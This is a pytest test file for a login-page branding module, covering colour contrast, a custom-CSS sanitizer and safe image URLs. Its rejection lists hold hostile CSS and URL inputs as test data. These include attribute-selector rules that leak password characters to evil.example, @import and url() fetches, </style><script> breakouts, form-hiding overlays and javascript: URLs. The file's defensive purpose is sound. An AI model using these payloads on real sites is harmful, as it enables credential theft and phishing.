"""Branding: colours stay legible whatever a tenant chooses, and custom CSS keeps to looks."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vaultaris.directory.v1.directory_pb2 import Tenant
from vaultaris_auth.hosted.branding.colours import (
    SHAPE_RATIO,
    TEXT_RATIO,
    WHITE,
    Colour,
    contrast,
    legible,
    parse_colour,
    readable_on,
)
from vaultaris_auth.hosted.branding.custom_css import MAX_CHARS, make_safe
from vaultaris_auth.hosted.branding.theme import DARK, LIGHT, branding_of, image_url

COLOURS = st.builds(Colour, *[st.integers(0, 255).map(lambda value: value / 255)] * 3)


class TestColours:
    @pytest.mark.parametrize("text", ["#fff", "#ffff", "#ffffff", "#FFFFFF80"])
    def test_reads_every_form(self, text: str) -> None:
        assert parse_colour(text) == WHITE

    @pytest.mark.parametrize("text", ["white", "#ff", "#fffffg", "", None, 7, "#fff;}body{display:none"])
    def test_takes_nothing_else(self, text: object) -> None:
        assert parse_colour(text) is None

    def test_knows_the_ends_of_the_scale(self) -> None:
        assert contrast(Colour(0, 0, 0), WHITE) == pytest.approx(21)

    @settings(deadline=None)
    @given(COLOURS)
    def test_text_on_any_colour_can_be_read(self, colour: Colour) -> None:
        assert contrast(readable_on(colour), colour) >= TEXT_RATIO

    @settings(deadline=None)
    @given(COLOURS, st.sampled_from([LIGHT.surface, DARK.surface]), st.sampled_from([TEXT_RATIO, SHAPE_RATIO]))
    def test_any_colour_becomes_legible(self, colour: Colour, surface: Colour, ratio: float) -> None:
        written = parse_colour(str(legible(colour, surface, ratio)))
        assert written is not None
        assert contrast(written, surface) >= ratio - 0.03  # what rounding to 8 bits may cost

    def test_what_is_legible_stays_as_it_is(self) -> None:
        chosen = Colour(0, 0.2, 0.6)
        assert str(legible(chosen, WHITE)) == str(chosen)


class TestCustomCss:
    @pytest.mark.parametrize(
        "css",
        [
            ".vt-card { border-radius: 2rem }",
            ".vt-title { font-family: Georgia, 'Times New Roman', serif; letter-spacing: -0.02em }",
            ".vt-button:hover, .vt-button:focus-visible { background: linear-gradient(90deg, #123456, rgb(1 2 3)) }",
            ".vt-card > .vt-form .vt-input:not(:disabled) { border: 2px solid hsl(200 50% 40%) }",
            ":root { --vt-surface: #fffef5; --vt-radius: 0 }",
            ".vt-card { padding: calc(1rem + 2px); color: var(--vt-text) }",
        ],
    )
    def test_keeps_looks(self, css: str) -> None:
        safe = make_safe(css)
        assert safe.dropped == []
        assert css.partition("{")[0].strip() in safe.text

    def test_keeps_media_queries(self) -> None:
        safe = make_safe("@media (prefers-color-scheme: dark) and (min-width: 40rem) { .vt-card { color: #fff } }")
        assert safe.dropped == []
        assert safe.text.startswith("@media (prefers-color-scheme: dark)")

    @pytest.mark.parametrize(
        "css",
        [
            "@import 'https://evil.example/x.css';",
            "@import url(//evil.example/x.css);",
            "@font-face { font-family: x; src: url(https://evil.example/f?a) }",
            "@namespace svg url(http://evil.example);",
            "@layer product { .vt-alert { display: none } }",
            "@supports (color: red) { .vt-card { color: red } }",
            "@charset 'utf-7';",
            "@property --vt-x { syntax: '<url>'; inherits: true; initial-value: url(x) }",
            "@keyframes x { from { color: red } }",
            "input[name=password][value^=a] { background: url(https://evil.example/a) }",
            "[value$='x'] { color: red }",
            ".vt-card { background: url(https://evil.example/a) }",
            ".vt-card { background: URL('https://evil.example/a') }",
            r".vt-card { background: \75\72\6c(https://evil.example/a) }",
            ".vt-card { background-image: image-set('https://evil.example/a' 1x) }",
            ".vt-card { background: -webkit-image-set(url(x) 1x) }",
            ".vt-card { background: cross-fade(url(x), url(y)) }",
            ".vt-card { background: src('https://evil.example') }",
            ".vt-card { background: element(#password) }",
            ".vt-card { width: expression(alert(1)) }",
            ".vt-card { behavior: url(x.htc) }",
            ".vt-card { -moz-binding: url(x.xml#x) }",
            ".vt-card { cursor: url(https://evil.example/c), auto }",
            ".vt-card::before { content: 'Call 0900 123' }",
            ".vt-card::before { content: attr(value) }",
            ".vt-form { position: fixed; top: 0 }",
            ".vt-form { transform: translateY(-900px) }",
            ".vt-form { margin-top: -900px }",
            ".vt-form { margin: calc(0px - 900px) }",
            ".vt-form { margin: calc(900px * -1) }",
            ".vt-alert { display: none }",
            ".vt-alert { visibility: hidden }",
            ".vt-alert { opacity: 0 }",
            ".vt-alert { clip-path: inset(100%) }",
            ".vt-card { filter: url(#x) }",
            ".vt-card { animation: x 1s }",
            ".vt-card { box-shadow: 0 0 0 9999px #fff }",
            ".vt-form { margin: calc(-infinity * 1px) }",
            ".vt-card { outline: calc(INFINITY * 1px) solid #fff }",
            ".vt-card { --vt-x: -infinity }",
            ".vt-form { text-decoration: line-through }",
            ".vt-form { text-decoration: var(--vt-x) }",
            ".vt-form { text-decoration-line: underline }",
            ".vt-card { font-family: '</style><script>alert(1)</script>' }",
            "@media (a</style>b) { .vt-card { color: red } }",
            ".vt-card { --evil: url(https://evil.example) }",
            ".vt-card { --vt-x: url(https://evil.example) }",
            ".vt-card { color: var(--evil) }",
            ".vt-card:has(input:valid) { color: red }",
            ".vt-card:visited { color: red }",
            ".vt-card { color: {} }",
            ".vt-card { color: [x] }",
            "</style><script>alert(1)</script>",
            ".vt-card { & .vt-form { color: red } }",
            ".vt-card { color: " + "(" * 500 + ")" * 500 + " }",
            "(" * 30_000,
            ".a{" * 8_000,
            "@media screen {" * 2_000 + ".vt-card { color: red }",
        ],
    )
    def test_leaves_out_everything_else(self, css: str) -> None:
        safe = make_safe(css)
        assert safe.text == ""
        assert safe.dropped

    def test_one_bad_declaration_does_not_cost_the_others(self) -> None:
        safe = make_safe(".vt-card { color: red; position: fixed; padding: 1rem }")
        assert safe.text == ".vt-card { color: red; padding: 1rem }"
        assert safe.dropped == [(1, "the property position is not allowed")]

    def test_importance_is_left_to_the_product(self) -> None:
        assert make_safe(".vt-alert { color: red !important }").text == ".vt-alert { color: red }"

    def test_a_string_can_not_break_out(self) -> None:
        safe = make_safe(".vt-card { font-family: 'a\\27 } body { background: url(x) } /*' }")
        assert make_safe(safe.text).dropped == []
        assert "url(x) } /*" in safe.text  # still inside the string

    @pytest.mark.parametrize("css", [r".a\3c \2f style\3e { color: red }", r".a { font-family: a\3c \2f style\3e }"])
    def test_an_escape_does_not_end_a_style_element(self, css: str) -> None:
        safe = make_safe(css)
        assert safe.dropped == []
        assert "</" not in safe.text

    def test_is_bounded(self) -> None:
        assert make_safe("/*" + "x" * MAX_CHARS).dropped == [(1, f"longer than {MAX_CHARS} characters")]
        assert make_safe(".a{color:red}" * 600).text.count("\n") == 499

    @settings(deadline=None)
    @given(st.text(alphabet="abu(){}[];:'\"\\/*@-!,.#<> \n0%url", max_size=200))
    def test_what_stays_is_stable_and_loads_nothing(self, css: str) -> None:
        text = make_safe(css).text
        assert make_safe(text).text == text
        assert make_safe(text).dropped == []
        assert "</" not in text


class TestTheme:
    def brand(self, **fields: object) -> Tenant:
        branding = {name: fields.pop(name) for name in list(fields) if name not in ("logo_url", "primary_color")}
        return Tenant(slug="x", settings=json.dumps({"branding": branding}), **fields)  # type: ignore[arg-type]  # as above

    def test_a_plain_tenant_has_a_theme_too(self) -> None:
        branding = branding_of(Tenant(slug="x"))
        assert branding.custom_css is None
        assert "--vt-primary: #2f4bc7" in branding.stylesheet

    def test_a_pale_colour_gets_dark_text_and_a_visible_edge(self) -> None:
        sheet = branding_of(self.brand(primary_color="#ffffaa")).stylesheet
        assert "--vt-primary: #ffffaa" in sheet
        assert "--vt-on-primary: #000000" in sheet
        assert "--vt-primary-edge: #ffffaa" not in sheet.partition("@media")[0]

    def test_a_light_background_is_not_for_the_dark(self) -> None:
        light, dark = branding_of(self.brand(background_color="#fff8e1")).stylesheet.split("@media")
        assert "--vt-page: #fff8e1" in light
        assert "--vt-page: #fff8e1" not in dark

    def test_a_tenants_rules_stay_outside_of_what_is_protected(self) -> None:
        sheet = branding_of(self.brand(custom_css="li { color: red }")).stylesheet
        assert "@scope (:root) to (.vt-protected) {\nli { color: red }\n}" in sheet

    def test_the_version_changes_with_the_content(self) -> None:
        versions = {branding_of(self.brand(primary_color=colour)).version for colour in ("#111111", "#222222")}
        assert len(versions) == 2

    @pytest.mark.parametrize("branding", [None, 7, [], "x", {"custom_css": 7, "welcome_text": [], "favicon_url": {}}])
    def test_odd_settings_are_as_none(self, branding: object) -> None:
        found = branding_of(Tenant(slug="x", settings=json.dumps({"branding": branding})))
        assert (found.custom_css, found.welcome_text, found.favicon_url) == (None, None, None)

    @pytest.mark.parametrize(
        "url",
        [
            "javascript:alert(1)", "data:image/png;base64,x", "//cdn.example/x.png",
            "http://cdn.example/x.png", "https://u:p@cdn.example/x", "",
            "https://cdn.example; script-src *", "https://*/x", "https:///x", "https://[::1", "https://x:99999/", None,
            "https://a\nb/",
        ],
    )  # fmt: skip
    def test_takes_no_address_that_could_widen_the_policy(self, url: object) -> None:
        assert image_url(url) is None

    def test_the_page_may_load_from_the_logos_origin(self) -> None:
        branding = branding_of(self.brand(logo_url="https://cdn.example:8443/a/logo.svg?v=1"))
        assert branding.image_origins == {"https://cdn.example:8443"}
